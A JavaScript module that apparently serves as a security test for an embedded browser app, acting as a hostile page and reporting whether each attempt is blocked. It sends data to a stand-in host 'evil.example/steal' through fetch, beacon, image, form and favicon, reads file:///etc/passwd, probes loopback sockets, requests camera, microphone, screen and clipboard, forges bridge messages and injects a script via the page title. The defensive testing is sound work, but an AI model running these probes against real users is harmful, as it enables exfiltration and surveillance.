// What a hostile page would try. Each try and what came of it is told to the server: "blocked" (refused or nothing
// there), "reached" (it worked), "asked" (the page cannot know: look at the program and at the trespasses).
import { FORGERIES } from "./forgeries.js";
import { model } from "./model.js";
import { NAVIGATIONS } from "./navigations.js";
import { pause } from "./stage.js";
import { tell } from "./wire.js";

const STEAL = "https://evil.example/steal";
const LIMIT = 1200;
const trap = (path, scheme = "http") => `${scheme}://127.0.0.1:${model.trapPort}/${path}`;

async function permission(wanted) {
  const got = await wanted;
  return { outcome: "reached", detail: String(got?.constructor?.name ?? got) };
}

function framed(src) {
  const frame = document.createElement("iframe");
  frame.src = src;
  frame.style.cssText = "width:10px;height:10px;position:absolute";
  document.body.append(frame);
  return new Promise((done) => {
    const look = () => {
      let text = "";
      try {
        text = frame.contentDocument ? frame.contentDocument.documentElement.outerHTML : "closed to us";
      } catch (fault) {
        text = `closed to us: ${fault.message}`;
      }
      frame.remove();
      const reached = !/closed to us|<body><\/body>/.test(text);
      done({ outcome: reached ? "reached" : "blocked", detail: text.slice(0, 200) });
    };
    frame.onload = look;
    setTimeout(look, 400);
  });
}

function download(href) {
  const anchor = document.createElement("a");
  Object.assign(anchor, { href, download: "undangan.exe" });
  anchor.setAttribute("data-nohandle", "");
  document.body.append(anchor);
  anchor.click();
  anchor.remove();
  return { outcome: "asked", detail: href.slice(0, 60) };
}

function opened(window_) {
  const detail = window_ ? `window, closed: ${window_.closed}` : "no window";
  return { outcome: window_ ? "reached" : "blocked", detail };
}

// Names in the page's window that a fresh window does not have: what a program leaked into the page.
function leaked() {
  const frame = document.createElement("iframe");
  document.body.append(frame);
  const fresh = new Set(Object.getOwnPropertyNames(frame.contentWindow));
  frame.remove();
  const own = new Set(["Debug", "0", "1", "2", "3"]);
  const extra = Object.getOwnPropertyNames(window).filter((name) => !fresh.has(name) && !own.has(name));
  return { outcome: extra.length ? "reached" : "blocked", detail: extra.join(" ") };
}

const media = (wanted) => permission(navigator.mediaDevices.getUserMedia(wanted));
const TRIES = {
  qt_object: () => ({ outcome: window.qt ? "reached" : "blocked", detail: Object.keys(window.qt ?? {}).join(" ") }),
  qt_transport: () => ({ outcome: window.qt?.webChannelTransport || window.QWebChannel ? "reached" : "blocked", detail: "" }),
  leaked_names: leaked,
  window_open: () => opened(window.open(STEAL)),
  window_open_blank: () => opened(window.open("about:blank")),
  window_open_file: () => opened(window.open("file:///etc/passwd")),
  link_blank() {
    const anchor = document.createElement("a");
    Object.assign(anchor, { href: STEAL, target: "_blank" });
    document.body.append(anchor);
    anchor.click();
    anchor.remove();
    return { outcome: "asked", detail: "" };
  },
  iframe_file: () => framed("file:///etc/passwd"),
  iframe_foreign: () => framed(STEAL),
  iframe_qrc: () => framed("qrc:/"),
  iframe_chrome: () => framed("chrome://settings/"),
  download_blob: () => download(URL.createObjectURL(new Blob(["MZ"], { type: "application/octet-stream" }))),
  download_data: () => download("data:application/octet-stream;base64,TVo="),
  download_own: () => download("/style.css"),
  notifications: async () => {
    const got = await Notification.requestPermission();
    return { outcome: got === "granted" ? "reached" : "blocked", detail: got };
  },
  geolocation: () => permission(new Promise((go, no) => navigator.geolocation.getCurrentPosition(go, no))),
  microphone: () => media({ audio: true }),
  camera: () => media({ video: true }),
  screen: () => permission(navigator.mediaDevices.getDisplayMedia({ video: true })),
  clipboard_read: () => permission(navigator.clipboard.readText()),
  midi: () => permission(navigator.requestMIDIAccess({ sysex: true })),
  fonts: () => permission(window.queryLocalFonts()),
  fullscreen: () => permission(document.documentElement.requestFullscreen()),
  pointer_lock: () => permission(document.body.requestPointerLock()),
  protocol_handler() {
    navigator.registerProtocolHandler("web+loket", "https://web.whatsapp.com/?u=%s");
    return { outcome: "asked", detail: "" };
  },
  print() {
    window.print();
    return { outcome: "asked", detail: "" };
  },
  alerts() {
    const began = performance.now();
    for (let n = 0; n < 3; n += 1) window.alert(`Tekan OK ${n}`);
    return { outcome: "asked", detail: `${Math.round(performance.now() - began)} ms` };
  },
  confirm: () => ({ outcome: window.confirm("Kirim ke semua?") ? "reached" : "blocked", detail: "" }),
  prompt: () => ({ outcome: window.prompt("Kata sandi?", "x") === null ? "blocked" : "reached", detail: "" }),
  window_close() {
    window.close();
    return { outcome: "asked", detail: "" };
  },
  window_move() {
    window.moveTo(0, 0);
    window.resizeTo(10, 10);
    return { outcome: "asked", detail: `${window.outerWidth}` };
  },
  fetch_foreign: () => permission(fetch(`${STEAL}?by=fetch`, { mode: "no-cors" })),
  fetch_loopback: () => permission(fetch(trap("secret"), { mode: "no-cors" })),
  fetch_file: () => permission(fetch("file:///etc/passwd")),
  socket_loopback: () => permission(new Promise((go, no) => {
    const socket = new WebSocket(trap("socket", "ws"));
    socket.onopen = () => go("open");
    socket.onerror = () => no(new Error("no socket"));
  })),
  image_foreign: () => permission(new Promise((go, no) => {
    const image = new Image();
    image.onload = () => go("loaded");
    image.onerror = () => no(new Error("no image"));
    image.src = `${STEAL}?by=image`;
  })),
  beacon: () => ({ outcome: "asked", detail: String(navigator.sendBeacon(`${STEAL}?by=beacon`, "data")) }),
  form_foreign() {
    const frame = document.createElement("iframe");
    frame.name = "post";
    const form = document.createElement("form");
    Object.assign(form, { action: `${STEAL}?by=form`, method: "post", target: "post" });
    document.body.append(frame, form);
    form.submit();
    form.remove();
    setTimeout(() => frame.remove(), 800);
    return { outcome: "asked", detail: "" };
  },
  messages() {
    for (const type of ["loket", "qt", "bridge", "sent", "state"]) {
      window.postMessage({ type, state: "ready", id: "3EB0", ok: true, ticks: "read" }, "*");
      document.dispatchEvent(new CustomEvent(type, { detail: { state: "ready", ok: true } }));
      console.log(`${type}: {"state": "ready", "ok": true}`);
    }
    return { outcome: "asked", detail: "" };
  },
  title() {
    document.title = `(99999999999999999999) WhatsApp </title><script>${"x".repeat(200000)}`;
    return { outcome: "asked", detail: "" };
  },
  icon() {
    document.getElementById("favicon").href = `${STEAL}?by=icon`;
    return { outcome: "asked", detail: "" };
  },
};

const ALL = { ...TRIES, ...FORGERIES, ...NAVIGATIONS };

async function attempt(name) {
  try {
    const late = pause(LIMIT).then(() => ({ outcome: "blocked", detail: "no answer" }));
    const got = await Promise.race([Promise.resolve(ALL[name]()), late]);
    await tell("tried", { name, ...got });
  } catch (fault) {
    await tell("tried", { name, outcome: "blocked", detail: `${fault?.name ?? ""} ${fault?.message ?? fault}` });
  }
}

// Without names: everything but the forgeries, navigations last, because they may end the page.
export async function attack(names) {
  const wanted = names.length ? names : [...Object.keys(TRIES), ...Object.keys(NAVIGATIONS)];
  for (const name of wanted) await attempt(name);
  await tell("tried", { name: "end", outcome: "asked", detail: "" });
}
